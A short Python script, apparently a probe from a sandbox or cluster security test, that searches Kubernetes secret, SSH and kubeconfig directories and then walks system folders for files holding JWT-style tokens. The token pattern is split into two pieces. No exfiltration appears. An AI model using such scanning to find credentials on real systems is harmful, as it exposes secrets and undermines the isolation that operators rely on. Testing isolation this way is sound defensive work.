# Looks for credentials in every file that it can read.
# forms: node local
# expect: Success/Completed
TOKEN = re.compile(rb"eyJhb" + rb"GciOi[A-Za-z0-9_-]{20}")
for folder in ("/var/run/secrets", "/run/secrets", "/run/agentrun", "/run/agentrun-skills", "/mnt/state", "/var/lib/kubelet", "/root/.kube", "/root/.ssh", "/etc/kubernetes", "/run/containerd"):
    way(folder, lambda: IN_CLUSTER and [name for name in os.listdir(folder)])
folders = ("/run", "/var/run", "/etc", "/opt", "/mnt", "/tmp", "/dev/shm", "/home") if IN_CLUSTER else (DATA, TEMP)
for base in folders:
    for folder, _, names in os.walk(base):
        for name in names:
            path = os.path.join(folder, name)
            if stat.S_ISREG(getattr(os.lstat(path), "st_mode", 0)) if os.path.lexists(path) else False:
                way(path, lambda: TOKEN.search(open(path, "rb").read(1 << 20)) and path)
end()
